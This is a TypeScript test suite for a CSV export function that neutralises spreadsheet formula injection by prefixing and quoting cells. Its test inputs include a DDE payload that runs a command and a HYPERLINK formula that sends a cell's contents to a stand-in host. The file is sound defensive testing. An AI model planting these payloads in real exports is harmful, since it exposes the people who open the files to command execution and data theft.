import assert from 'node:assert/strict'
import { test } from 'node:test'
import { tulisCsv } from '#client/format/csv.ts'

for (const [nilai, sel] of [
  ['Posyandu Melati', 'Posyandu Melati'],
  ['=1+1', "'=1+1"],
  ['+62811', "'+62811"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://lain.example?"&A1,"Klik")', '"\'=HYPERLINK(""http://lain.example?""&A1,""Klik"")"'],
  ['  =1', "'  =1"],
  ['\t=1', '"\'\t\'=1"'],
  ['\r\n=1', "\"'\r'\n'=1\""],
  ['\uFEFF=1', "'\uFEFF=1"],
  ['\u00A0=1', "'\u00A0=1"],
  ['\uFF1D1+1', "'\uFF1D1+1"],
  ['nama;=1+1', '"nama;\'=1+1"'],
  ['nama\n@SUM(A1)', '"nama\n\'@SUM(A1)"'],
  ['nama\t-1', '"nama\t\'-1"'],
  ['kata "kutip"', '"kata ""kutip"""'],
  ['a,b', '"a,b"'],
  ['a;b', '"a;b"'],
  ['-', "'-"],
  ['-5', '-5'],
  ['-5,25', '"-5,25"'],
  [-5, '-5'],
  [0, '0'],
  [null, ''],
  ['', ''],
] as const) {
  test(`${JSON.stringify(nilai)} is written so that no spreadsheet computes it`, () => {
    assert.equal(tulisCsv([[nilai]]), `\uFEFF${sel}\r\n`)
  })
}

test('rows end as RFC 4180 says, after a mark that this is UTF-8', () => {
  assert.equal(
    tulisCsv([
      ['a', 1],
      ['b', null],
    ]),
    '\uFEFFa,1\r\nb,\r\n',
  )
})
